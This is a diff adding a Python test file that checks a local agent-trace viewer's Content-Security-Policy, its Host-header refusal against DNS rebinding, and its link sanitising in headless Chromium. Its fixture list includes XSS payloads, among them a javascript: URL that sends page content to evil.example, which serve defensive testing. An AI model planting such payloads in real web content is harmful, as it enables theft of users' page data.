@@ -1,0 +1,118 @@
+"""Issue 12 item 5: the trace viewer's links, its Content-Security-Policy and its Host check."""
+
+import http.client
+import os
+import re
+import shutil
+import subprocess
+import tempfile
+from html.parser import HTMLParser
+
+import pytest
+
+from agenthub.tracer import save_trace
+from agenthub import viewer as viewer_module
+from agenthub.viewer import PAGE, serve_in_thread
+
+BROWSERS = ("/usr/bin/chromium", "/usr/bin/chromium-browser", "/usr/bin/google-chrome")
+EVIL = ["javascript:fetch('https://evil.example/?'+document.body.innerHTML)", "JaVaScRiPt:alert(1)",
+        " javascript:alert(2)", "data:text/html,<script>alert(3)</script>", "vbscript:msgbox(4)", "/raw/other.json",
+        "https://ok.example/a b"]
+HISTORY = [
+    {"role": "user", "content_items": [{"type": "text", "text": "hi"}]},
+    {"role": "assistant", "content_items": [{"type": "image_url", "image_url": url} for url in EVIL]
+     + [{"type": "image_url", "image_url": "https://img.example/cat.png"}]},
+    {"role": "user", "content_items": [{"type": "tool_result", "text": "r", "tool_call_id": "c1",
+                                        "images": EVIL + ["http://img.example/dog.png"]}]},
+]
+
+
+@pytest.fixture
+def viewer(tmp_path):
+    save_trace("evil", "demo-model", HISTORY, {}, root=str(tmp_path))
+    server, url = serve_in_thread(str(tmp_path))
+    yield server
+    server.shutdown()
+    server.server_close()
+
+
+def _get(server, host, path="/"):
+    connection = http.client.HTTPConnection(server.server_address[0], server.server_address[1], timeout=10)
+    try:
+        connection.putrequest("GET", path, skip_host=True)
+        if host is not None:
+            connection.putheader("Host", host)
+        connection.endheaders()
+        answer = connection.getresponse()
+        return answer.status, dict(answer.getheaders()), answer.read()
+    finally:
+        connection.close()
+
+
+def test_the_page_runs_only_its_own_script_and_style():
+    CSP = getattr(viewer_module, "CSP", "script-src 'unsafe-inline'")
+    assert "unsafe-inline" not in CSP and "unsafe-eval" not in CSP
+    script = re.search(r"script-src ('sha256-[A-Za-z0-9+/=]+')(;|$)", CSP)
+    style = re.search(r"style-src ('sha256-[A-Za-z0-9+/=]+')(;|$)", CSP)
+    assert script and style
+    for part in ("default-src 'none'", "base-uri 'none'", "form-action 'none'", "frame-ancestors 'none'",
+                 "object-src 'none'"):
+        assert part in CSP
+    assert "__DATA__" not in PAGE[PAGE.index("<script>"):]  # the data block is never the executed script
+
+
+@pytest.mark.parametrize("host", ["127.0.0.1:{port}", "localhost:{port}", "127.0.0.1", "LOCALHOST"])
+def test_its_own_names_are_answered(viewer, host):
+    status, headers, body = _get(viewer, host.format(port=viewer.server_address[1]), "/trace/evil")
+    assert status == 200
+    assert headers["Content-Security-Policy"] == viewer_module.CSP
+    assert headers["X-Content-Type-Options"] == "nosniff"
+
+
+@pytest.mark.parametrize("host", ["evil.example", "evil.example:{port}", "127.0.0.1.evil.example:{port}",
+                                  "localhost:1", "127.0.0.2:{port}", "", None, "localhost.:{port}",
+                                  "[::1]x:{port}"])
+def test_another_host_is_refused(viewer, host):
+    """DNS rebinding: a name under an attacker's control resolving to 127.0.0.1 carries its own Host."""
+    host = None if host is None else host.format(port=viewer.server_address[1])
+    for path in ("/", "/trace/evil", "/raw/evil.json"):
+        status, _, body = _get(viewer, host, path)
+        assert status == 421
+        assert b"history" not in body and b"demo-model" not in body
+
+
+class _Links(HTMLParser):
+    def __init__(self):
+        HTMLParser.__init__(self)
+        self.hrefs, self.srcs = [], []
+
+    def handle_starttag(self, tag, attrs):
+        attrs = dict(attrs)
+        if tag == "a" and "href" in attrs:
+            self.hrefs.append(attrs["href"])
+        if tag == "img":
+            self.srcs.append(attrs.get("src"))
+
+
+def test_a_browser_makes_links_of_http_urls_only(viewer):
+    browser = next((b for b in BROWSERS if os.path.exists(b)), None) or shutil.which("chromium")
+    if browser is None:
+        pytest.skip("no Chromium installed")
+    url = "http://127.0.0.1:{}/trace/evil".format(viewer.server_address[1])
+    profile = tempfile.mkdtemp(prefix="agenthub-chromium-")
+    try:
+        result = subprocess.run([browser, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
+                                 "--disable-background-networking", "--disable-dev-shm-usage",
+                                 "--user-data-dir=" + profile, "--virtual-time-budget=5000", "--dump-dom", url],
+                                stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=120)
+    finally:
+        shutil.rmtree(profile, ignore_errors=True)
+    dom = result.stdout.decode("utf-8")
+    assert "Assistant" in dom  # the page's script ran under the CSP
+    links = _Links()
+    links.feed(dom)
+    own = "http://127.0.0.1:{}/".format(viewer.server_address[1])
+    trace_links = [h for h in links.hrefs if not h.startswith(("/trace/", "/raw/", own)) and h != "/"]
+    assert trace_links == ["https://img.example/cat.png", "http://img.example/dog.png"]
+    assert links.srcs == ["https://img.example/cat.png", "http://img.example/dog.png"]
+    assert "link not shown (javascript)" in dom and "link not shown (vbscript)" in dom
